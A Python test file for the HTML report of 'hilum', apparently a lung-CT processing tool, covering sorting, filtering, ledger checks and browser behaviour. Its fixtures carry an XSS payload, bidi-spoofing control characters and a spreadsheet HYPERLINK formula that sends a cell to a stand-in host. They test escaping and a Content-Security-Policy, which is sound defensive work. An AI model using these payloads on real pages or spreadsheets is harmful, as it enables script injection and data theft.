"""The page of a run: what is in it, what is not, and how it behaves in a browser."""

from __future__ import annotations

import base64
import hashlib
import json
import re
import subprocess
import sys
import unicodedata
from pathlib import Path
from xml.etree import ElementTree as ET

import numpy as np
import pytest
from browser import browser, find
from hypothesis import given
from hypothesis import strategies as st
from small_runs import append_row

import hilum
from hilum import batch, cli
from hilum.errors import MissingInputError, OutputError
from hilum.ops.preview import draw_preview
from hilum.outputs import findings
from hilum.outputs.dataset_summary import write_summary
from hilum.outputs.ledger import Ledger, Row
from hilum.outputs.records import DatasetRecord
from hilum.outputs.scans_index import Origin, write_index
from hilum.outputs.store import store_scan
from hilum.phantom.chest import make_phantom
from hilum.recipes import parse_recipe
from hilum.report.charts import histogram, nice_step
from hilum.report.gather import gather
from hilum.report.page import _static, write_report
from hilum.report.risk import CHECK, FINE, LEVELS, LOOK, NO_OUTPUT, REPAIRED, level_of
from hilum.report.text import html, json_block, visible
from hilum.report.to_check import WORDS
from hilum.scan import Note

EVIL = "<script>window.hacked=1</script><img src=x onerror='window.hacked=2'></script><!--"
CONTROLS = "\x00\x1b[2J\r\n\u202egnp.exe\u202c\u2066\u2028\ud800"
FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"open")'
SHOWN = r"\u{0}\u{1b}[2J\u{d}\u{a}\u{202e}gnp.exe\u{202c}\u{2066}\u{2028}"

needs_browser = pytest.mark.skipif(find() is None, reason="no Chromium here (Debian: apt-get install chromium)")


def scan_of(number, *, notes=(), figures=None, nodules=2, labels=None):
    grid = hilum.Geometry((30, 48, 40), (2.0 + number, 1.0, 1.5))
    values = np.random.default_rng(number).integers(-1024, 400, grid.shape).astype(np.int16)
    lungs = np.zeros(grid.shape, np.uint8)
    lungs[4:26, 8:40, 5:18], lungs[4:26, 8:40, 22:35] = 1, 2
    places = [grid.index_to_world((8.0 + 5 * k, 20.0, 10.0)) for k in range(nodules)]
    found = tuple(hilum.Nodule(tuple(p.tolist()), 6.0 + k, scores={EVIL: 3.0}) for k, p in enumerate(places))
    drawn = hilum.mask_nodules(grid, found)
    return hilum.Scan(
        series_uid=f"1.2.3.{number}",
        ct=hilum.Volume(values, grid),
        nodules=found,
        annotated=True,
        lungs=hilum.Mask(lungs, grid),
        nodule_mask=drawn,
        notes=notes,
        figures={"lung_right_ml": 100.0 * number, "lung_left_ml": 90.0, "lung_ml": 200.0, "lung_score": 1.0}
        | (figures or {}),
        nodule_figures=tuple({"voxels": 30.0, "mean_hu": -20.0, "inside_lungs": 0.9} for _ in found),
        labels=labels or {},
    )


def store(scan, folder, name, *, dataset="folder", pictures=True):
    store_scan(
        scan, folder / "scans", scan_id=name, file_format="npy", source=scan.ct.geometry, recipe_name="mine",
        recipe_sha256="0", fingerprint="f" * 64, dataset=dataset, preview=draw_preview(scan) if pictures else None,
    )  # fmt: skip


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    """Seven scans: two fine, one with an alarm, one hostile, one of an older version, one refused, one failed."""
    folder = tmp_path_factory.mktemp("report") / "run <b>&amp;"
    store(scan_of(1), folder, "ct-a")
    store(scan_of(2, nodules=0), folder, "ct-b")
    store(scan_of(3, notes=(Note("leak", "air"),), figures={"lung_score": 0.2}), folder, "ct-c")
    evil = scan_of(4, notes=(Note(EVIL, CONTROLS[:-1]), Note("padding-to-air", FORMULA)), labels={EVIL: FORMULA})
    store(evil, folder, "ct-d", dataset=EVIL)
    store(scan_of(5), folder, "ct-e", pictures=False)
    for name, status in zip("abcde", ("done", "done", "repaired", "repaired", "done"), strict=True):
        append_row(folder, Row(id=f"ct-{name}", status=status, seconds=1.5))
    append_row(folder, Row(id="ct-f", status="refused", code="gantry-tilt", reason=f"tilted {EVIL} {FORMULA}"))
    append_row(folder, Row(id="ct-g", status="failed", code="KeyError", reason="it broke"))
    (folder / "recipe.toml").write_text(f'name = "mine" # {EVIL}\n')
    table = DatasetRecord(dataset=EVIL, scans=7, finished=5, scans_with_nodules=4, nodules=8, landed=8,
                          inside_lungs=8, largest_round_trip_mm=1e-9, notes=[FORMULA])  # fmt: skip
    write_summary(folder, [table])
    return folder


def blocks(text):
    return dict(re.findall(r'<script type="[a-z/]+" id="([a-z0-9-]+)">(.*?)</script>', text, re.DOTALL))


# ---- the page as text


def test_the_page_holds_every_scan_by_risk(run, tmp_path):
    made = write_report(run, tmp_path / "page.html")
    text = made.path.read_text(encoding="utf-8")
    assert (made.scans, made.pictures, made.size) == (7, 4, len(text.encode()))
    scans = json.loads(blocks(text)["scans"])
    assert [s["id"] for s in scans] == ["ct-f", "ct-g", "ct-c", "ct-d", "ct-a", "ct-b", "ct-e"]
    assert [s["risk"] for s in scans] == [NO_OUTPUT, NO_OUTPUT, CHECK, REPAIRED, FINE, FINE, FINE]
    assert scans[-1]["no_picture"].startswith("no pictures: an older version of hilum")
    assert "The ledger is complete: 7 scans = 3 done + 2 repaired + 1 refused + 1 failed." in text
    for number, scan in enumerate(scans):
        picture = blocks(text).get(f"picture-{number}")
        path = run / "scans" / scan["id"] / "preview.png"
        assert (picture and base64.b64decode(picture)) == (path.read_bytes() if path.exists() else None)
    assert write_report(run, tmp_path / "again.html").path.read_bytes() == made.path.read_bytes()


def test_nothing_of_the_data_is_markup(run, tmp_path):
    text = write_report(run, tmp_path / "page.html").path.read_text(encoding="utf-8")
    assert "<img" not in text
    assert "window.hacked=1</script>" not in text
    assert len(re.findall("<script", text)) == len(re.findall("</script", text)) == 3 + 4
    assert not any(unicodedata.category(c) in {"Cc", "Cf", "Cs"} and c != "\n" for c in text)
    assert html(EVIL) in text
    assert "&lt;b&gt;&amp;amp;" in text  # the name of the folder


def test_the_policy_allows_this_script_and_this_style_alone(run, tmp_path):
    text = write_report(run, tmp_path / "page.html").path.read_text(encoding="utf-8")
    (policy,) = re.findall(r'http-equiv="Content-Security-Policy" content="(.*?)"', text)
    for tag in ("script", "style"):
        (inside,) = re.findall(f"<{tag}>(.*?)</{tag}>", text, re.DOTALL)
        digest = base64.b64encode(hashlib.sha256(inside.encode()).digest()).decode()
        assert f"{tag}-src &#x27;sha256-{digest}&#x27;" in policy
    assert policy.startswith("default-src &#x27;none&#x27;; img-src data:;")
    assert "unsafe" not in policy
    assert text.index("Content-Security-Policy") < text.index("<style>") < text.index("<script")
    own = "".join(_static(f"report.{kind}") for kind in ("html", "css", "js"))
    assert re.findall(r"https?://[^\s\"']+", own) == ["http://www.w3.org/2000/svg"]
    assert not re.search(r"innerHTML|insertAdjacent|document\.write|\beval\b|@import|url\(", own)


def test_a_balance_that_does_not_hold_is_told(tmp_path):
    folder = tmp_path / "run"
    store(scan_of(1), folder, "ct-a")
    store(scan_of(2), folder, "ct-x")
    for name in "ab":
        append_row(folder, Row(id=f"ct-{name}", status="done"))
    with (folder / "ledger.jsonl").open("ab") as file:
        file.write(b'{"id": "ct-z", "sta')
    text = write_report(folder).path.read_text(encoding="utf-8")
    assert (folder / "report.html").is_file()
    assert "The ledger has faults" in text
    assert "1 scans are done in the ledger, but their output is missing" in text
    assert "1 finished scans are not in the ledger" in text
    assert "1 lines of the ledger cannot be read" in text
    assert {e.id: e.flags[0].name for e in gather(folder).entries if e.flags} == {
        "ct-b": "missing-output",
        "ct-x": "not-in-ledger",
    }


def test_a_damaged_picture_is_told_and_not_shown(tmp_path):
    folder = tmp_path / "run"
    store(scan_of(1), folder, "ct-a")
    append_row(folder, Row(id="ct-a", status="done"))
    picture = folder / "scans" / "ct-a" / "preview.png"
    picture.write_bytes(picture.read_bytes()[:-1] + b"x")
    found = gather(folder)
    assert found.pictures == {}
    assert found.entries[0].no_picture == "no pictures: preview.png does not match its checksum"


def test_what_cannot_be_read_or_written_is_refused_in_one_line(run, tmp_path, capsys):
    with pytest.raises(MissingInputError, match=r"no output of a run here"):
        write_report(tmp_path)
    assert cli.main(["report", str(tmp_path)]) == 1
    assert len(capsys.readouterr().err.splitlines()) == 1
    (tmp_path / "file").touch()
    with pytest.raises(OutputError):
        write_report(run, tmp_path / "file" / "page.html")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["file"]
    assert cli.main(["report", str(run), "--out", str(tmp_path / "page.html")]) == 0
    assert "7 scans, 4 with pictures" in capsys.readouterr().out


def test_no_plotting_library_is_needed(run, tmp_path):
    code = f"import sys; from pathlib import Path; from hilum.report.page import write_report; import hilum.batch; \
write_report(Path({str(run)!r}), Path({str(tmp_path / 'a.html')!r})); print(sorted(sys.modules))"
    told = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert not {"matplotlib", "PIL", "skimage", "scipy"} & set(re.findall(r"'(\w+)'", told))


@pytest.mark.parametrize(
    ("code", "level"),
    [
        ("leak", CHECK),
        ("not-hu", CHECK),
        ("nodule-outside", CHECK),
        ("cropped", LOOK),
        ("missing-slices", LOOK),
        ("units", REPAIRED),
        ("padding-to-air", FINE),
        ("no-nodules", FINE),
        ("of-another-version", REPAIRED),
    ],
)
def test_notes_have_their_level(code, level):
    assert level_of(code) == level
    assert LEVELS[level]


def test_nodules_beside_the_lungs_and_low_scores_are_flagged(tmp_path):
    scan = scan_of(1, figures={"lung_score": 0.6})
    store(scan, tmp_path, "ct-a")
    beside = tuple({"voxels": 9.0, "mean_hu": 1.0, "inside_lungs": share} for share in (0.49, 0.5))
    store(hilum.Scan(**{**vars(scan), "nodule_figures": beside}), tmp_path, "ct-b")
    for name in "ab":
        append_row(tmp_path, Row(id=f"ct-{name}", status="done"))
    (second, first) = gather(tmp_path).entries
    assert [(f.name, f.level) for f in first.flags] == [("low-score", LOOK)]
    assert [(f.name, f.level) for f in second.flags] == [("nodule-beside-lungs", CHECK)]
    assert second.flags[0].text.endswith("lung mask: 1")


def test_the_guide_names_every_level():
    guide = Path(__file__).resolve().parents[1] / "docs" / "report.md"
    if not guide.is_file():
        pytest.skip("the tests of an installed package come without the pages")
    rows = re.findall(r"^\| ([a-z ]+) \|", guide.read_text(encoding="utf-8"), re.MULTILINE)
    assert rows == ["risk", *reversed(LEVELS)]


# ---- text and charts


@given(st.text())
def test_every_character_is_seen(text):
    shown = visible(text)
    assert not [c for c in shown if unicodedata.category(c) in {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}]
    assert shown == text or "\\u{" in shown


def test_long_texts_and_piles_of_marks_are_bounded():
    assert visible("a" * 3000).endswith("a ... and 1000 more characters")
    assert visible("a" + "\u0300" * 5) == "a" + "\u0300" * 3 + r"\u{300}" * 2
    assert visible(CONTROLS[:-1]) == SHOWN


PLAIN = st.none() | st.booleans() | st.integers(-(2**53), 2**53) | st.text()
VALUES = st.recursive(PLAIN, lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner))


@given(VALUES)
def test_a_block_of_json_ends_nothing_and_says_all(value):
    text = json_block(value)
    assert text.isascii()
    assert not set("<>&") & set(text)

    def seen(one):
        if isinstance(one, dict):
            return {visible(k): seen(v) for k, v in one.items()}
        return [seen(v) for v in one] if isinstance(one, list) else visible(one) if isinstance(one, str) else one

    assert json.loads(text) == seen(value)


@given(st.lists(st.floats(-1e6, 1e6), min_size=1, max_size=60))
def test_a_histogram_counts_every_value_in_its_step(values):
    figure = ET.fromstring(histogram("x", [*values, float("nan")], "mm", "scans"))  # noqa: S314 - our own text
    total = 0
    for bar in figure.iter("title"):
        first, last, count = re.fullmatch(r"(\S+) to (\S+) mm: (\d+) scans", bar.text).groups()
        slack = 1e-5 * max(abs(float(first)), abs(float(last)))
        inside = [v for v in values if float(first) - slack <= v <= float(last) + slack]
        assert len(inside) >= int(count) > 0
        total += int(count)
    assert total == len(values)
    assert len(list(figure.iter("title"))) <= 26


@given(st.floats(1e-6, 1e9))
def test_a_nice_step_is_round_and_near(rough):
    step = nice_step(rough)
    assert rough * (1 - 1e-6) <= step <= 2.0001 * rough
    assert f"{step:.1e}"[:3] in {"1.0", "2.0", "2.5", "5.0"}


def test_distributions_of_nothing_say_so():
    assert "no scans" in histogram("x", [], "mm", "scans")
    assert "NaN" not in histogram("x", [float("inf")], "mm", "scans")


# ---- in a browser


@pytest.fixture(scope="module")
def page(run, tmp_path_factory):
    if find() is None:
        pytest.skip("no Chromium here (Debian: apt-get install chromium)")
    path = write_report(run, tmp_path_factory.mktemp("page") / "report.html").path
    with browser() as opened:
        opened.open(path)
        yield opened


IDS = "[...document.querySelectorAll('tbody .open')].map(one => one.textContent)"


def head(name):
    return f"[...document.querySelectorAll('thead button')].find(one => one.textContent.startsWith('{name}')).click()"


def choose(name, value):
    set_it = f"const one = document.getElementById('{name}'); one.value = '{value}'"
    return f"{{{set_it}; one.dispatchEvent(new Event('change'))}}"


def search(page, words, want):
    """Type words, and wait until the table holds what is wanted: it waits for the end of the word."""
    page.run(
        f"{{const one = document.getElementById('find'); one.value = {words!r}; one.dispatchEvent(new Event('input'))}}"
    )
    assert page.until(IDS, want) == want


def clear(page):
    page.run("document.getElementById('find').form.reset()")
    assert page.until(f"{IDS}.length", 7) == 7


@needs_browser
def test_the_table_sorts(page):
    assert page.run(IDS) == ["ct-f", "ct-g", "ct-c", "ct-d", "ct-a", "ct-b", "ct-e"]
    page.run(head("Right ml"))
    assert page.run(IDS) == ["ct-a", "ct-b", "ct-c", "ct-d", "ct-e", "ct-f", "ct-g"]
    assert page.run("document.querySelector('[aria-sort]').textContent") == "Right ml \u25b2"
    page.run(head("Right ml"))
    assert page.run(IDS) == ["ct-e", "ct-d", "ct-c", "ct-b", "ct-a", "ct-f", "ct-g"]  # the unknown stays last
    page.run(head("Score"))
    assert page.run(IDS)[0] == "ct-c"
    page.run(head("Nodules"))
    assert page.run(IDS)[4] == "ct-b"
    page.run(head("Risk"))
    assert page.run("document.querySelectorAll('[aria-sort]').length") == 1


@needs_browser
def test_the_table_filters(page):
    search(page, "tilted", ["ct-f"])
    search(page, "LEAK repaired", ["ct-c"])
    search(page, "no such thing", [])
    assert page.run("document.getElementById('count').textContent") == "0 of 7 scans"
    clear(page)
    page.run(choose("status", "repaired"))
    assert page.run(IDS) == ["ct-c", "ct-d"]
    page.run(choose("risk", CHECK))
    assert page.run(IDS) == ["ct-c"]
    clear(page)


@needs_browser
def test_pictures_show_and_keys_open_a_scan(page):
    page.run("document.getElementById('table').scrollIntoView()")
    shown = "[...document.querySelectorAll('tbody img')].filter(one => one.naturalWidth > 0).length"
    assert page.until(shown, 4) == 4
    sizes = page.run("[...document.querySelectorAll('tbody img')].map(one => [one.naturalWidth, one.naturalHeight])")
    assert len(sizes) == 4
    assert all(width > 300 and height == 128 for width, height in sizes)
    page.run("document.querySelectorAll('.open')[0].focus()")
    for _ in range(3):
        page.press("ArrowDown", 40)
    assert page.run("document.activeElement.textContent") == "ct-d"
    page.press("Enter", 13, "\r")
    assert page.run("document.activeElement.getAttribute('aria-expanded')") == "true"
    assert page.until("document.querySelector('.detail img').naturalWidth > 300", want=True)
    assert page.run("document.querySelectorAll('.detail .all tbody tr').length") == 2  # nodules
    path = page.run("document.querySelector('.detail svg .bar').getAttribute('d')")
    assert len(re.findall("L", path)) == 165
    page.press("Escape", 27)
    assert page.run("document.querySelectorAll('.detail').length") == 0
    page.press("k", 75, "k")
    assert page.run("document.activeElement.textContent") == "ct-c"


@needs_browser
def test_hostile_text_is_text(page):
    page.run("document.querySelectorAll('.open').forEach(one => one.click())")
    assert page.until("document.querySelectorAll('.detail').length", 7) == 7
    seen = page.run("document.body.textContent")
    for text in (EVIL, SHOWN, FORMULA):
        assert text in seen
    assert page.run("window.hacked") is None
    assert page.run("document.querySelectorAll('img[src=x], td script, li script, dd script').length") == 0
    page.run("document.querySelectorAll('.open').forEach(one => one.click())")


@needs_browser
def test_no_request_leaves_the_page_and_nothing_complains(page):
    """The last test on this page: it ends with what must be stopped, and be seen."""
    asked = page.requests()
    assert len([url for url in asked if not url.startswith("data:image/png")]) == 1
    assert page.complaints() == []
    page.run(
        "{const s = document.createElement('script'); s.textContent = 'window.hacked = 3'; document.body.append(s)}"
    )
    assert page.run("window.hacked") is None
    assert page.run("fetch('http://192.0.2.1/').then(() => 'got', () => 'stopped')") == "stopped"
    assert "Content Security Policy" in str(page.complaints())


@needs_browser
def test_the_browser_would_tell_of_a_request(page, tmp_path):
    (tmp_path / "bad.html").write_text("<img src='http://127.0.0.1:9/x.png'><script>nothing()</script>")
    page.open(tmp_path / "bad.html")
    page.until("document.images[0].complete", True)
    assert "http://127.0.0.1:9/x.png" in page.requests()
    assert "nothing is not defined" in str(page.complaints())


@pytest.fixture(scope="module")
def thirty(tmp_path_factory):
    """Thirty scans: seven with an alarm, five refused or failed, two to look at, the others fine; some are of cases."""
    folder = tmp_path_factory.mktemp("thirty")
    for number in range(30):
        name, notes = f"ct-{number:016x}", ()
        if number % 5 == 0:
            append_row(
                folder, Row(id=name, status="refused", code="missing-slices", reason="slices 3 to 9 are missing")
            )
            continue
        if number % 4 == 1:
            notes = (Note("leak", "7% of the mask is air"), Note("ragged", "30 parts"))[number % 3 != 0 :]
        elif number in {2, 3}:
            notes = (Note("cropped", "at the edge"),)
        store(scan_of(number, notes=notes, nodules=0), folder, name)
        append_row(folder, Row(id=name, status="done", notes=[f"{note.code}: {note.text}" for note in notes]))
    cases = {f"ct-{number:016x}": Origin("lidc", case=f"LIDC-IDRI-{number:04d}") for number in (1, 5, 7)}
    with Ledger(folder) as ledger:
        write_index(folder, ledger, cases, former={}, full_paths=False, hide=False)
    return folder


@needs_browser
def test_a_name_leads_to_its_scan_and_j_and_k_work_at_once(thirty, tmp_path):
    with browser(width=1366, height=700) as opened:
        opened.open(write_report(thirty, tmp_path / "page.html").path)
        opened.press("j", 74, "j")
        first = opened.run(f"{IDS}[0]")
        assert opened.run("document.activeElement.textContent") == first
        opened.run("{const one = document.getElementById('find'); one.value = 'nothing'; one.focus()}")
        opened.press("j", 74, "j")
        assert opened.run("document.activeElement.id") == "find"  # a letter that is typed moves nothing
        opened.run("document.querySelector('#check a[data-number=\"7\"]').click()")
        assert opened.until("document.querySelectorAll('.detail').length", 1) == 1
        assert opened.run("document.activeElement.getAttribute('aria-expanded')") == "true"
        assert opened.run("document.activeElement.closest('tr').dataset.number") == "7"
        assert opened.until("document.activeElement.getBoundingClientRect().top < innerHeight / 2", True)
        assert opened.run("document.activeElement.getBoundingClientRect().top >= 0")


def test_no_scan_to_check_is_said(tmp_path):
    folder = tmp_path / "run"
    store(scan_of(1, notes=(Note("cropped", "at the edge"),)), folder, "ct-a")
    append_row(folder, Row(id="ct-a", status="done"))
    text = write_report(folder, tmp_path / "page.html").path.read_text()
    assert "No scan has an alarm, and none was refused or failed." in text
    assert "To check: 0 of 1 scans" in text


def test_very_many_scans_of_one_reason_are_counted(tmp_path):
    folder = tmp_path / "run"
    folder.mkdir()
    for number in range(150):
        append_row(folder, Row(id=f"ct-{number}", status="refused", code="not-ct", reason="is no CT"))
    text = write_report(folder, tmp_path / "page.html").path.read_text()
    assert text.count("data-number=") == 120
    assert "and 30 more, in the table below" in text
    assert "(150)" in text


def test_every_alarm_has_words():
    assert set(findings.NOTE_KINDS) & set(WORDS) == {c for c, kind in findings.NOTE_KINDS.items() if kind == "alarm"}


@needs_browser
def test_paper_shows_what_is_folded(thirty, tmp_path):
    with browser() as opened:
        opened.open(write_report(thirty, tmp_path / "page.html").path)
        closed = "document.querySelectorAll('main > section > details:not([open])').length"
        assert opened.run(closed) == 3
        opened.run("dispatchEvent(new Event('beforeprint'))")
        assert opened.run(closed) == 0
        opened.run("dispatchEvent(new Event('afterprint'))")
        assert opened.run(closed) == 3


@needs_browser
@pytest.mark.real
def test_real_scans_and_phantoms_show(real_data, tmp_path):
    for seed in range(2):
        phantom = make_phantom(seed=seed, shape=(40, 80, 80), spacing=(7.5, 4.5, 4.5))
        hilum.write(phantom.scan.ct, tmp_path / f"1.2.{seed}.mhd")
    places = [tmp_path, real_data / "lung-pet-ct-dx-A0002", real_data / "cip-ct64", real_data / "oddities" / "panimg"]
    refs, refused = batch.index(places)
    rows = batch.run(refs, parse_recipe("[resample]\nspacing_mm = 4.0\n"), tmp_path / "out", refused=refused)
    made = write_report(tmp_path / "out")
    finished = sum(row.status in {"done", "repaired"} for row in rows)
    assert (made.scans, made.pictures) == (len(rows), finished)
    with browser() as opened:
        opened.open(made.path)
        assert opened.until(f"{IDS}.length", len(rows)) == len(rows)  # forty at first
        opened.run("dispatchEvent(new Event('beforeprint'))")  # every picture is loaded for the printer
        images = "[...document.querySelectorAll('tbody img')]"
        widths = opened.run(f"Promise.all({images}.map(one => one.decode().then(() => one.naturalWidth)))")
        assert len(widths) == finished
        assert min(widths) > 0
        assert opened.complaints() == []
        assert [url for url in opened.requests() if not url.startswith("data:")] == [made.path.resolve().as_uri()]
